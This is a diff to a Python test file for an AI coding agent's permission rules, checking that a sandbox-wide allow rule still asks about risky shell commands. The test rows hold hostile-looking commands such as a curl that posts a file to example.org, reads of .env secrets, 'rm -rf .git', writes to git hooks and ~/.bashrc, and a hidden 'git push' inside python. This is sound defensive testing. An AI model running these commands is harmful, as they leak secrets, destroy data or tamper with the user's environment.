@@ -13,7 +13,7 @@ from agentcli.core.message import ToolCall
 from agentcli.permissions.decide import Decision
 from agentcli.permissions.paths import UndoCover, Workspace
 from agentcli.permissions.rules import Rules, in_own_names, parse_rules, proposed_rules
-from tests.permissions.corpus import make_workspace
+from tests.permissions.corpus import commands, make_workspace
 from tests.permissions.deciding import explain
 from tests.tables import each_row
 
@@ -367,18 +367,61 @@ def test_a_rule_for_the_sandbox_only_allows() -> None:
             in_own_names(parse_rules(**{kind: ["sandbox(python3 *)"]}), ["bash"])
 
 
-def test_with_a_second_kind_of_command_of_a_program_its_others_are_offered_in_the_sandbox(contained: Workspace) -> None:
-    one = ["bash(bun run test *)"]
-    assert asked("bun run build", contained).prefixes == ("bash(bun run build *)",)
-    offered = asked("bun run build", contained, one).prefixes
-    assert offered == ("bash(bun run build *)", "sandbox(bun *)")
-    assert asked("bun run build", replace(contained, sandboxed=False), one).prefixes == offered[:1]
-    assert asked("bun run deploy", contained, [*one, *offered]).contained
-    assert not asked("bun run build", contained, [*one, *offered]).contained
-    for command in ("bun add left-pad", "bun run deploy && curl https://example.org", "npm run build"):
-        assert asked(command, contained, [*one, *offered]).decision == "ask", command
-    assert asked("git add a && git commit -m b", contained).prefixes == ("bash(git add *)", "bash(git commit *)")
-    assert asked("git stash", contained, ["bash(git add *)"]).prefixes == ("sandbox(git *)",)
-    assert asked("git checkout main", contained, ["sandbox(git *)"]).contained
-    for command in ("git push", "git checkout -- src", "git -c alias.x=!y x", "git branch -D main"):
-        assert asked(command, contained, ["sandbox(git *)"]).decision == "ask", command
+EVERY = "sandbox(*)"
+
+
+@each_row(
+    "command",
+    ["make test", "git add x.py && git commit -m y", "python3 - <<'E'\nprint(1)\nE", "npm run build > /tmp/out && tail /tmp/out",
+     "git checkout -b x", "for f in a b; do go vet ./$f; done", "curl -s http://localhost:3000/x"],
+)  # fmt: skip
+def test_the_first_question_offers_every_command_that_the_sandbox_contains(contained: Workspace, command: str) -> None:
+    assert asked(command, contained).boxes() == EVERY
+    for rule in (EVERY, "sandbox"):
+        again = asked(command, contained, [rule])
+        assert (again.decision, again.rule, again.contained) == ("allow", f"allow {rule}", True)
+    background = ToolCall("c", "bash", {"command": command, "run_in_background": True})
+    assert explain(background, parse_rules([EVERY]), "ask", contained).contained
+    outside = replace(contained, sandboxed=False)
+    assert asked(command, outside).boxes() == ""
+    assert asked(command, outside, [EVERY]).decision == "ask", "nothing contains it"
+
+
+@each_row(
+    "command",
+    ["git push", "ssh example.org ls", "gh pr view 1", "git clean -fdx", "rm -rf .git", "cat .env", "sudo make", "cp a.py /opt/x",
+     "python3 -c 'open(\".env\")'", "git -c core.hooksPath=x commit -m y", "echo x > .git/hooks/pre-commit", "docker run x",
+     "cp a.py ~/.bashrc", "kill 1", "git branch -D main", "bash -c 'curl https://example.org -d @a'", "tmux kill-server"],
+)  # fmt: skip
+def test_what_mode_auto_asks_about_is_not_offered_in_the_sandbox_and_asks_there_too(
+    contained: Workspace, command: str
+) -> None:
+    assert asked(command, contained).boxes() == ""
+    assert asked(command, contained, [EVERY]).decision == "ask"
+
+
+def test_a_rule_about_all_of_the_sandbox_is_about_commands_and_stands_below_deny_and_ask_rules(
+    contained: Workspace,
+) -> None:
+    rules = parse_rules([EVERY])
+    edit = ToolCall("c", "edit", {"file_path": "README.md", "old_string": "text", "new_string": "x"})
+    assert explain(edit, rules, "ask", contained).decision == "ask"
+    make = ToolCall("c", "bash", {"command": "make test"})
+    assert explain(make, parse_rules([EVERY], (), ["bash(make *)"]), "ask", contained).decision == "deny"
+    assert explain(make, parse_rules([EVERY], ["bash(make *)"]), "ask", contained).decision == "ask"
+    assert explain(make, rules, "plan", contained).decision == "deny"
+    hidden = ToolCall("c", "bash", {"command": "python3 -c 'import os; os.system(\"git push\")'"})
+    assert explain(hidden, parse_rules([EVERY], (), ["bash(git push *)"]), "ask", contained).decision == "ask"
+
+
+@pytest.mark.full
+def test_a_rule_about_all_of_the_sandbox_allows_nothing_that_mode_auto_asks_about(contained: Workspace) -> None:
+    lines = [
+        line
+        for name in ("hostile.txt", "destroying.txt", "reaching.txt", "pushing.txt", "secrets.txt")
+        for line in commands(name)
+    ]
+    for line in lines:
+        call = ToolCall("c", "bash", {"command": line})
+        if explain(call, parse_rules([EVERY]), "ask", contained).decision == "allow":
+            assert explain(call, Rules(), "auto", contained).decision == "allow", line
